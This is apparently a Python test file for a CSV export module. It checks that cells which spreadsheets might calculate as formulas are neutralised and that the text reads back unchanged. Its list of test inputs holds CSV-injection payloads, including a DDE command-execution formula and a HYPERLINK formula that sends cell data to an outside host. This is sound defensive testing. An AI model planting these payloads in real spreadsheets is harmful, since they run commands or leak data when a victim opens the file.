"""Texts in a spreadsheet stay texts. S6, T18."""

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli.sheets import BEGINS_A_FORMULA, ENCODING, cell_of, text_of, write_sheet

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com?"&A1,"ok")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    "''",
    'he said "=1", twice',
    'a","=1+1',
    "王小明",
    "",
]


def test_s6_every_cell_that_might_be_calculated_is_neutralised_and_the_file_reads_back_as_it_was(
    tmp_path: Path,
) -> None:
    path = tmp_path / "sheet.csv"
    write_sheet(path, ["text", "again"], [[text, text] for text in HOSTILE])
    with path.open(encoding=ENCODING, newline="") as file:
        titles, *rows = csv.reader(file)
    assert titles == ["text", "again"]
    assert [cell for row in rows for cell in row if cell[:1] in BEGINS_A_FORMULA] == []
    assert [[text_of(cell) for cell in row] for row in rows] == [[text, text] for text in HOSTILE]


@pytest.mark.parametrize("text", HOSTILE)
def test_s6_no_line_and_no_field_of_the_file_begins_with_a_formula(tmp_path: Path, text: str) -> None:
    """Some programs split at every comma or semicolon, whatever the quotes say of it."""
    path = tmp_path / "sheet.csv"
    write_sheet(path, ["text"], [[text]])
    assert path.read_bytes().decode(ENCODING).split("\r\n", 1)[1].startswith('"')


@given(st.text())
def test_s6_any_text_is_read_back_and_none_begins_a_formula(text: str) -> None:
    assert text_of(cell_of(text)) == text
    assert cell_of(text)[:1] not in BEGINS_A_FORMULA
